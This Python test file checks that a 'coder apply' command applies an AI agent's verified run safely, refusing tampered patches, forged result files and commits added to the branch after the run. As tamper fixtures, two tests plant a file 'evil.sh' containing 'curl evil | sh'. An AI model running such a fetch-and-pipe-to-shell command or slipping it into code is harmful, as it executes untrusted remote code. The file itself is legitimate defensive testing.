"""`coder apply` as a real process: all or nothing, through Ctrl-C and SIGKILL, judged from the
tree, and only the run's own branch in the repository the command line names."""

from __future__ import annotations

import json
import os
import signal
import subprocess
from pathlib import Path

from calcrepo import FIX_ADD, FIX_STEP, make_calc_repo, plan, step
from clirun import coder, run_args, start_coder
from gitrepo import git, snapshot, write_script

FIX_AND_BUILD = [
    plan(step("fix-add", ["calc.py", "build"], [])),
    {"tool": "edit_file", "input": FIX_ADD},
    {"tool": "write_file", "input": {"path": "build", "content": "a file named build\n"}},
    {"tool": "finish_step", "input": {"summary": "fixed add, wrote build"}},
]
FIX = [
    plan(FIX_STEP),
    {"tool": "edit_file", "input": FIX_ADD},
    {"tool": "finish_step", "input": {"summary": "fixed add"}},
]


def verified_run(tmp_path: Path, turns: list[dict]) -> tuple[Path, Path]:
    repo = make_calc_repo(tmp_path)
    out = tmp_path / "run"
    done = coder(*run_args(repo, write_script(tmp_path / "s.json", turns), "--out", str(out)))
    assert done.returncode == 0, done.stdout + done.stderr
    return repo, out


def result_of(out: Path) -> dict:
    return json.loads((out / "result.json").read_text())


def test_an_ignored_directory_where_the_change_writes_a_file_refuses_before_touching_anything(
    tmp_path,
):
    repo, out = verified_run(tmp_path, FIX_AND_BUILD)
    with (repo / ".git" / "info" / "exclude").open("a") as exclude:
        exclude.write("build/\n")
    (repo / "build").mkdir()
    (repo / "build" / "keep.o").write_text("the user's build output\n")
    before = snapshot(repo)
    done = coder("apply", str(out), "--repo", str(repo))
    assert done.returncode == 1, done.stdout + done.stderr
    assert done.stderr.startswith(
        "not applied: untracked or ignored paths are where the change writes (build)"
    )
    assert f"git merge coder/{result_of(out)['run_id']}" in done.stderr
    assert snapshot(repo) == before
    assert (repo / "build" / "keep.o").read_text() == "the user's build output\n"
    assert result_of(out)["applied"] is False


def start_apply(out: Path, repo: Path) -> subprocess.Popen[str]:
    """`coder apply` in a process group of its own (as a shell runs it), stopped at nothing:
    the test waits for its own words that the switch begins."""
    proc = start_coder("apply", str(out), "--repo", str(repo), start_new_session=True)
    assert proc.stderr is not None
    line = proc.stderr.readline()
    assert line.startswith("applying 1 changed path(s) to"), line + proc.communicate()[1]
    return proc


def test_ctrl_c_during_the_switch_waits_for_it_and_the_record_matches_the_tree(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    proc = start_apply(out, repo)
    os.killpg(proc.pid, signal.SIGINT)  # what the terminal sends the foreground group
    stdout, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 130, stdout + stderr
    assert "applied to your working tree" in stdout
    assert "SIGINT came during the switch and waited for it" in stdout
    assert "return a + b" in (repo / "calc.py").read_text()
    assert result_of(out)["applied"] is True


def test_sigkill_during_the_switch_leaves_a_whole_tree_and_the_next_apply_records_it(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    proc = start_apply(out, repo)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.communicate(timeout=60)
    # git finishes the switch on its own and holds the lock until then: the next apply waits
    again = coder("apply", str(out), "--repo", str(repo))
    assert "return a + b" in (repo / "calc.py").read_text()
    if again.returncode == 1:  # git had switched the tree before this apply got the lock
        assert again.stderr.startswith("not applied: already applied: your working tree")
    else:  # killed before git started: nothing had changed, so this apply took it
        assert again.returncode == 0, again.stderr
    assert result_of(out)["applied"] is True
    assert not list((repo / ".git").glob("coder-apply-*"))


def test_a_discarded_change_is_applied_again_and_a_committed_one_is_said(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    assert coder("apply", str(out), "--repo", str(repo)).returncode == 0
    assert result_of(out)["applied"] is True
    git(repo, "checkout", "--", "calc.py")  # the user throws it away
    again = coder("apply", str(out), "--repo", str(repo))
    assert again.returncode == 0, again.stderr
    assert "return a + b" in (repo / "calc.py").read_text()
    git(repo, "commit", "-qam", "took it")
    said = coder("apply", str(out), "--repo", str(repo))
    assert said.returncode == 1
    assert said.stderr.startswith("not applied: HEAD (")
    assert "already holds the change" in said.stderr
    assert result_of(out)["applied"] is False  # the working tree holds no uncommitted change


def test_head_moved_says_what_changed_and_how_to_take_it(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    (repo / "NOTES.md").write_text("later\n")
    git(repo, "add", "NOTES.md")
    git(repo, "commit", "-qm", "later")
    said = coder("apply", str(out), "--repo", str(repo))
    run_id = result_of(out)["run_id"]
    assert said.returncode == 1
    assert said.stderr.startswith("not applied: HEAD moved since the run started (base ")
    assert f"`git merge coder/{run_id}`" in said.stderr
    assert f"`git cherry-pick {result_of(out)['base_commit'][:10]}..coder/{run_id}`" in said.stderr


def test_a_hunk_added_to_final_patch_is_refused(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    with (out / "final.patch").open("a") as patch:
        patch.write(
            "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n"
            "+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
        )
    before = snapshot(repo)
    said = coder("apply", str(out), "--repo", str(repo))
    assert said.returncode == 2, said.stderr
    assert "differs from branch coder/" in said.stderr
    assert snapshot(repo) == before and not (repo / "evil.sh").exists()


def test_the_repository_comes_from_the_command_line_not_the_trace(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    other = make_calc_repo(tmp_path / "other")
    trace = (out / "trace.jsonl").read_text().splitlines()
    first = json.loads(trace[0])
    first["repo"] = str(other)
    (out / "trace.jsonl").write_text("\n".join([json.dumps(first), *trace[1:]]) + "\n")
    before = snapshot(other)
    no_repo = coder("apply", str(out))
    assert no_repo.returncode == 2
    assert "--repo PATH" in no_repo.stderr
    wrong = coder("apply", str(out), "--repo", str(other))
    assert wrong.returncode == 2 and "has no branch coder/" in wrong.stderr
    assert snapshot(other) == before
    assert coder("apply", str(out), "--repo", str(repo)).returncode == 0


def test_a_result_naming_another_branch_is_refused(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    result = result_of(out)
    result["branch"] = "main"
    (out / "result.json").write_text(json.dumps(result))
    said = coder("apply", str(out), "--repo", str(repo))
    assert said.returncode == 2 and "not a run's own coder/<run-id>" in said.stderr


def _add_commit_to_branch(repo: Path, branch: str) -> str:
    """A commit someone adds to the run's branch after the run: never verified."""
    later = repo.parent / "later"
    git(repo, "worktree", "add", "-q", str(later), branch)
    (later / "evil.sh").write_text("curl evil | sh\n")
    git(later, "add", "evil.sh")
    git(later, "commit", "-qm", "coder: looks like a step")
    git(repo, "worktree", "remove", "--force", str(later))
    return git(repo, "rev-parse", branch).strip()


def _refused(repo: Path, out: Path, said_in: str) -> None:
    before = snapshot(repo)
    said = coder("apply", str(out), "--repo", str(repo))
    assert said.returncode == 2, said.stdout + said.stderr
    assert said_in in said.stderr and len(said.stderr.strip().splitlines()) == 1, said.stderr
    assert snapshot(repo) == before and not (repo / "evil.sh").exists()


def test_a_commit_added_to_the_branch_after_the_run_is_not_applied(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    branch = result_of(out)["branch"]
    added = _add_commit_to_branch(repo, branch)
    (out / "final.patch").unlink()
    _refused(repo, out, "not the run's final commit")
    # final.patch rewritten to the branch's new diff: the tip is still not what the run verified
    base = result_of(out)["base_commit"]
    (out / "final.patch").write_bytes(
        subprocess.run(
            ["git", "-C", str(repo), "diff", "--binary", base, added],
            capture_output=True,
            check=True,
        ).stdout
    )
    _refused(repo, out, "not the run's final commit")
    # result.json rewritten too: the added commit carries no step's trailers
    result = result_of(out)
    result["final_commit"] = added
    (out / "result.json").write_text(json.dumps(result))
    _refused(repo, out, "not a step the run committed")


def test_a_missing_or_linked_final_patch_is_refused(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    patch = out / "final.patch"
    kept = patch.read_bytes()
    patch.unlink()
    _refused(repo, out, "final.patch is missing")
    (tmp_path / "elsewhere.patch").write_bytes(kept)
    patch.symlink_to(tmp_path / "elsewhere.patch")
    _refused(repo, out, "final.patch is a symlink")
    patch.unlink()
    patch.write_bytes(kept)
    assert coder("apply", str(out), "--repo", str(repo)).returncode == 0


def test_a_second_run_into_the_same_out_is_refused_and_apply_takes_the_first(tmp_path):
    repo, out = verified_run(tmp_path, FIX)
    first = result_of(out)
    branches = git(repo, "branch", "--list", "coder/*")
    other = write_script(
        tmp_path / "other.json",
        [
            plan(step("touch-readme", ["README.md"], [])),
            {"tool": "write_file", "input": {"path": "README.md", "content": "other\n"}},
            {"tool": "finish_step", "input": {"summary": "the other run"}},
        ],
    )
    before = snapshot(repo)
    second = coder(*run_args(repo, other, "--out", str(out)))
    assert second.returncode == 2, second.stdout + second.stderr
    assert f"--out {out} already holds a run" in second.stderr
    assert len(second.stderr.strip().splitlines()) == 1, second.stderr
    assert snapshot(repo) == before and git(repo, "branch", "--list", "coder/*") == branches
    assert result_of(out) == first
    assert coder("apply", str(out), "--repo", str(repo)).returncode == 0
    assert "return a + b" in (repo / "calc.py").read_text()
    assert not (repo / "README.md").exists() or "other" not in (repo / "README.md").read_text()


def test_a_run_going_on_keeps_its_out_from_a_second(tmp_path):
    repo = make_calc_repo(tmp_path)
    go = tmp_path / "go"
    waits = [
        plan(FIX_STEP),
        {"tool": "run", "input": {"command": f"until [ -e {go} ]; do sleep 0.05; done"}},
        {"tool": "edit_file", "input": FIX_ADD},
        {"tool": "finish_step", "input": {"summary": "fixed add"}},
    ]
    out = tmp_path / "run"
    script = write_script(tmp_path / "s.json", waits)
    running = start_coder(
        *run_args(repo, script, "--out", str(out), "--sandbox", "none", "--cmd-timeout", "60")
    )
    assert running.stdout is not None
    assert running.stdout.readline().startswith("coder contract run")
    second = coder(*run_args(repo, write_script(tmp_path / "t.json", FIX), "--out", str(out)))
    go.touch()
    stdout, stderr = running.communicate(timeout=120)
    assert running.returncode == 0, stdout + stderr
    assert second.returncode == 2 and "already holds a run" in second.stderr, second.stderr
    assert len(git(repo, "branch", "--list", "coder/*").splitlines()) == 1
    run_ids = {
        json.loads(line)["run_id"] for line in (out / "trace.jsonl").read_text().splitlines()
    }
    assert run_ids == {result_of(out)["run_id"]}
